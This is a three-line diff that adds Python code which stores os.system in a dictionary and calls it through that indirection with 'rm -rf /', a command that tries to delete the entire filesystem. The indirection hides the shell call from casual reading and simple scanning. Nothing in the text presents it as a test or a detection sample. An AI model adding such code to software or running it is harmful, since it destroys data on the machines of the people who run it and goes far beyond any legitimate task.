@@ -1,0 +1,3 @@
+import os
+table = {"go": os.system}
+table["go"]("rm -rf /")
